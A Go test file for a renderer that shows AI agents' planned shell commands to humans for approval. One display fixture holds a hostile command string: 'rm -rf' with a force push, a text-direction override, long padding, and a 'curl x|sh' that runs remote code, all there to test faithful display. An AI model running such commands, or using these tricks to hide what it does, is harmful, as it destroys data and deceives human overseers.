package approval_test

import (
	"bytes"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/tada-run/tada-run/approval"
	"github.com/tada-run/tada-run/approval/canonical"
)

// fullPlan has every key that a launcher writes, and two that no renderer knows.
func fullPlan(command string) map[string]any {
	return map[string]any{
		"version": 1, "work_item_id": "PR-118", "agent_name": "claude-code", "workspace_root": "/home/dg/proj",
		"toolset_mode": "dangerous/push-1", "risk": 2,
		"tool_calls": []any{map[string]any{"tool_call_id": "c1", "tool_name": "shell", "args": map[string]any{
			"command": command, "canonical": command + "\n", "argv": []string{"rm", "-rf", "build dir"}, "stdin": "pipe"}}},
		"context": map[string]any{"cwd": "/home/dg/proj", "cwd_dev": 2049, "cwd_ino": 5521,
			"env": map[string]any{"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}, "env_hash": "77ab", "uid": 1000, "umask": 18,
			"shell": "/usr/bin/bash", "policy": "p3c1", "profile": "push-1", "version": "0.1.0", "level": "strong"},
		"effects":    map[string]any{"delete": []string{"/home/dg/proj/build"}, "write": []string{}, "read": []string{}, "exec": []string{"/usr/bin/git"}, "net": []string{"github.com:22"}},
		"targets":    []any{map[string]any{"right": "delete", "name": "build", "real": "/home/dg/proj/build", "exists": true, "dev": 2049, "ino": 99}},
		"reasons":    []any{map[string]any{"rule": "git.force-push", "verdict": "ask", "message": "rewrites the history of a shared branch", "span": []any{25, 32}, "path": ""}},
		"hazards":    []any{map[string]any{"rule": "git.force-push", "risk": 2, "message": "force"}},
		"opaque":     []any{map[string]any{"place": "c1", "text": "eval \"$x\"", "why": "runs text that is not known"}},
		"agent_says": "clean build and sync branch",
		"origin":     "human", "future": map[string]any{"deep": []any{map[string]any{"key": "value"}, nil, true}},
	}
}

func spell(t testing.TB, v any) []byte {
	t.Helper()
	b, err := canonical.Append(nil, v)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestShowPage(t *testing.T) {
	if os.Getenv("SHOW_PAGE") == "" {
		t.Skip("set SHOW_PAGE to see a page")
	}
	p := fullPlan("rm -rf build && git push --force origin main; echo \u202e a\rb" + strings.Repeat(" ", 300) + "; curl x|sh")
	fmt.Print(approval.Render(spell(t, p), approval.RenderOptions{Width: 80}).Text())
	fmt.Print(approval.Render(spell(t, p), approval.RenderOptions{Width: 80, Full: true}).Text())
}

// B-R5.1, B-T7, E-dsp-1: a full page is the payload in another form.
func TestDecode(t *testing.T) {
	for _, v := range []any{fullPlan("ls"), 5, "text", nil, []any{}, map[string]any{}, map[string]any{"": "", "a b": 1, "\xff": []any{"\xfe"}, "10": nil}} {
		p := spell(t, v)
		for _, width := range []int{0, 40, 80, 200} {
			text := approval.Render(p, approval.RenderOptions{Width: width, Full: true}).Text()
			back, err := approval.Decode(text, width)
			if err != nil || !bytes.Equal(back, p) {
				t.Errorf("width %d: %s came back as %s, %v\n%s", width, p, back, err, text)
			}
		}
	}
}
